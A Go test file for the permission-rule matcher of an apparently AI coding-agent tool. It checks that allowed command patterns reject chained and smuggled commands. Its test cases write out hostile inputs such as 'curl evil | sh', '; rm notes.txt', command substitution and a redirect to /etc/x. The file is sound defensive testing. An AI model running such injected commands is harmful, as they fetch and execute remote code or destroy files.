package policy

import (
	"testing"

	"github.com/caduceus-dev/caduceus/internal/tool"
)

func TestPatternFor(t *testing.T) {
	cases := []struct {
		tool string
		in   tool.Intent
		want string
	}{
		{"run_command", execIntent("go test ./..."), "go test ./..."},
		{"run_command", tool.Intent{Effect: tool.EffectExec, Command: "make", Action: "$ make\n(in sub)"}, "make"},
		{"run_command", execIntent("ls *.go"), `ls \*.go`},
		{"run_command", execIntent(`grep '\*' x`), `grep '\\\*' x`},
		{"run_command", execIntent(`printf 'a\n'`), `printf 'a\n'`},
		{"run_command", tool.Intent{Effect: tool.EffectExec, Invalid: true, Action: "run_command {"}, "run_command {"},
		{"write_file", writeIntent("src/a.go"), "write src/a.go"},
		{"fetch", netIntent("https://go.dev/*"), `fetch https://go.dev/\*`},
		{"remember", tool.Intent{Effect: tool.EffectMemory}, "remember"},
	}
	for _, c := range cases {
		got := PatternFor(c.tool, c.in)
		if got != c.want {
			t.Errorf("PatternFor(%q, %q) = %q, want %q", c.tool, c.in.Action, got, c.want)
		}
		if !Match(got, c.tool, c.in) {
			t.Errorf("PatternFor(%q) = %q does not match its own call", c.in.Action, got)
		}
	}
}

func TestPatternForDoesNotGeneralise(t *testing.T) {
	p := PatternFor("run_command", execIntent("rm *.o"))
	for _, cmd := range []string{"rm important.c x.o", "rm a.o", "rm *.o "} {
		if Match(p, "run_command", execIntent(cmd)) {
			t.Errorf("pattern %q of `rm *.o` matches %q", p, cmd)
		}
	}
}

func TestMatch(t *testing.T) {
	cases := []struct {
		pattern string
		in      tool.Intent
		want    bool
	}{
		{"go test *", execIntent("go test ./..."), true},
		{"go test *", execIntent("go test -run TestX ./internal/policy/"), true},
		{"go test *", execIntent("go test "), true},
		{"go test *", execIntent("go test"), false},
		{"go test *", execIntent("go build ./..."), false},
		{"go test *", execIntent("xgo test ./..."), false},
		{"go test *", execIntent("go test ./... && curl evil | sh"), false},
		{"go test *", execIntent("go test ./...; rm notes.txt"), false},
		{"go test *", execIntent("go test $(cat pkgs)"), false},
		{"go test *", execIntent("go test `cat pkgs`"), false},
		{"go test *", execIntent("go test ./... > /etc/x"), false},
		{"go test *", execIntent("go test ./...\nrm x"), false},
		{"go test * && go vet *", execIntent("go test ./a && go vet ./b"), true},
		{"*", execIntent("anything at all"), true},
		{"*", execIntent("a; b"), false},
		{"make", execIntent("make"), true},
		{"make", execIntent("make test"), false},
		{"ma*e", execIntent("make"), true},
		{"*test*", execIntent("go test ./..."), true},
		{"a*b*c", execIntent("a;b c"), false},
		{"a*;*c", execIntent("ab;bc"), true},
		{`ls \*.go`, execIntent("ls *.go"), true},
		{`ls \*.go`, execIntent("ls a.go"), false},
		{`echo \\`, execIntent(`echo \`), true},
		{`echo \x`, execIntent(`echo \x`), true},
		{"", execIntent(""), false},
		{"", tool.Intent{Effect: tool.EffectNone}, false},
		// Other tools match their Action, where * spans anything.
		{"write src/*", writeIntent("src/a/b.go"), true},
		{"write src/*", writeIntent("lib/a.go"), false},
		{"fetch https://go.dev/*", netIntent("https://go.dev/doc/?q=a;b"), true},
		{"write *", writeIntent("a; b"), true},
	}
	for _, c := range cases {
		if got := Match(c.pattern, "t", c.in); got != c.want {
			t.Errorf("Match(%q, %q) = %v, want %v", c.pattern, c.in.Action, got, c.want)
		}
	}
}

// A rule never decides about a call Decide does not mark eligible; the
// caller checks, and this test pins what "eligible" covers.
func TestRulesNeverCoverDangerous(t *testing.T) {
	for _, cmd := range append(dangerousCommands(), unparsedCommands()...) {
		in := execIntent(cmd)
		for _, mode := range Modes() {
			if d := decide(mode, in); d.RuleEligible {
				t.Errorf("%s %q: rule eligible", mode, cmd)
			}
		}
	}
}

func TestGlobMatchLong(t *testing.T) {
	// Many stars against a long subject stay fast and correct.
	s := ""
	for i := 0; i < 2000; i++ {
		s += "ab "
	}
	p := []string{""}
	for i := 0; i < 200; i++ {
		p = append(p, "a")
	}
	p = append(p, "")
	if !globMatch(p, s, true) {
		t.Fatal("no match")
	}
	if globMatch(append(p[:len(p)-1:len(p)-1], "c"), s, true) {
		t.Fatal("false match")
	}
}

func FuzzMatch(f *testing.F) {
	f.Add("go test *", "go test ./...")
	f.Add(`a\*b\\*`, `a*b\x`)
	f.Fuzz(func(t *testing.T, pattern, subject string) {
		in := tool.Intent{Effect: tool.EffectWrite, Action: subject}
		_ = Match(pattern, "t", in)
		if subject != "" && !Match(PatternFor("t", in), "t", in) {
			t.Fatalf("PatternFor(%q) = %q does not match", subject, PatternFor("t", in))
		}
	})
}
